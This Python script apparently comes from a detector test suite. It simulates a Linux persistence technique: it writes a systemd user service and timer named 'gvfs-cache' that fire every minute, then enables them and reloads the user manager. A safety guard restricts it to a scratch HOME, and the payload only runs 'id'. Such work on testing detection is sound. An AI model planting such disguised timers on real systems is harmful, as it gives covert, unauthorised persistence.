# technique: T1053.006 T1543.002
"""Scheduled Task/Job: Systemd Timers (T1053.006), user units under
~/.config/systemd/user.

Writes a .service and a .timer (OnCalendar every minute) with plain open
in the user unit directory and links the timer into timers.target.wants,
exactly what `systemctl --user enable --now x.timer` would leave. Then asks
`systemctl --user daemon-reload` (no user manager here: it fails quietly).

A good detector raises a medium or high alert: a program creates a systemd
timer in the user's unit directory.
"""
import os as _os, pwd as _pwd, sys as _sys  # noqa: E401 (safety guard, not part of the attack)
if _os.path.realpath(_os.path.expanduser("~")) == _os.path.realpath(_pwd.getpwuid(_os.getuid()).pw_dir):
    _sys.exit("this attack writes under HOME: run it with HOME set to a scratch directory")
import os
import subprocess

home = os.path.expanduser("~")
unit_dir = os.path.join(home, ".config", "systemd", "user")
wants = os.path.join(unit_dir, "timers.target.wants")
os.makedirs(wants, exist_ok=True)
with open(os.path.join(unit_dir, "gvfs-cache.service"), "w") as f:
    f.write("[Service]\nType=oneshot\nExecStart=/bin/sh -c 'id > /dev/null'\n")
with open(os.path.join(unit_dir, "gvfs-cache.timer"), "w") as f:
    f.write("[Timer]\nOnCalendar=*-*-* *:*:00\nPersistent=true\n\n[Install]\nWantedBy=timers.target\n")
os.symlink(os.path.join(unit_dir, "gvfs-cache.timer"), os.path.join(wants, "gvfs-cache.timer"))
try:
    subprocess.run(["systemctl", "--user", "daemon-reload"], timeout=5,
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
except (OSError, subprocess.TimeoutExpired):
    pass
